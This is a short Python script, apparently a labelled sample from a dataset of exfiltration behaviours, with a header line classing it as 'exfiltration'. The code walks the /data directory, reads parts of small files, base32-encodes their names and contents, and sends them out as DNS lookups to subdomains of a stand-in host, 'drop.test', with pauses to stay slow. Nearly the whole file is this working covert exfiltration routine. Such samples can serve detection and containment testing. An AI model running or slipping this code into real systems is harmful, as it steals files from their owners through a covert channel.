# class: exfiltration; possible: low medium; needs: data; style: base32 labels, gethostbyname
import base64
import os
import socket
import time

found = {}
for top, _, names in os.walk("/data"):
    for name in names:
        path = os.path.join(top, name)
        if os.path.getsize(path) < 20000:
            with open(path, "rb") as f:
                found[name] = f.read(1500)

for number, (name, body) in enumerate(sorted(found.items())[:4]):
    text = base64.b32encode(name.encode() + b"\0" + body).decode().rstrip("=").lower()
    for at in range(0, len(text), 56):
        try:
            socket.gethostbyname("%s.%d-%d.drop.test" % (text[at : at + 56], number, at))
        except OSError:
            pass
        time.sleep(0.05)
